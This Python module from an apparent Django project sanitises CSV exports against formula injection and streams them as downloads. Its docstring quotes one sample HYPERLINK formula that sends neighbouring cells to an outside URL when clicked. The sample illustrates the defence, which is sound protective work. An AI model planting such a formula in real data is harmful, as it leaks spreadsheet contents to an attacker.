"""Cells a spreadsheet opens safely: every CSV (and any XLSX) Urna writes goes through here.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading one of those) is run as a formula by Excel, LibreOffice
and Google Sheets: a contribution reading ``=HYPERLINK("https://…?"&A1; "Clic")`` would send the
neighbouring cells to whoever wrote it when a civil servant clicks. OWASP's remedy ("CSV
Injection") is applied: such text gets a leading apostrophe, which spreadsheets show as text.

Only text is touched. Numbers stay numbers (a negative count is still ``-5``), so writers pass
the positions of their text columns and open data keeps validating against its Table Schema.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
# A byte-order mark makes Excel read a CSV as UTF-8 (accents); machines are better without it.
UTF8_BOM = "\ufeff"


def formula_safe(value: Any) -> Any:
    """The value, with a leading apostrophe if it is text a spreadsheet would run."""
    if isinstance(value, str) and value and value[0] in FORMULA_TRIGGERS:
        return "'" + value
    return value


def formula_safe_rows(
    rows: Iterable[Sequence[Any]], text_columns: Sequence[int]
) -> Iterator[Sequence[Any]]:
    """The rows, with the text columns at ``text_columns`` made safe; a row is copied only
    when one of its cells needs it (rarely), so a million-row export pays one check per cell."""
    columns = tuple(text_columns)
    triggers = FORMULA_TRIGGERS
    for row in rows:
        for i in columns:
            value = row[i]
            if value and isinstance(value, str) and value[0] in triggers:
                row = [formula_safe(v) if j in columns else v for j, v in enumerate(row)]
                break
        yield row


class _Line:
    """A file for ``csv.writer`` that hands back each line instead of storing it."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """A CSV for a person's spreadsheet, a line at a time: the byte-order mark first (Excel on
    Windows then reads the accents as UTF-8), and no text cell that starts a formula. Every CSV
    download a person opens goes through here; open data's machine-readable resources, which a
    Table Schema validates, are written without the mark (``urna.opendata.writers``)."""
    writer = csv.writer(_Line())
    yield UTF8_BOM
    for row in rows:
        yield writer.writerow([formula_safe(value) for value in row])


def csv_download(
    rows: Iterable[Sequence[Any]], *, filename: str, private: bool = True
) -> StreamingHttpResponse:
    """``rows`` (the header first) streamed as a CSV attachment named ``filename``;
    ``private`` ones (staff exports, rejected rows) are never kept by a cache."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if private:
        response["Cache-Control"] = "private, no-store"
    return response
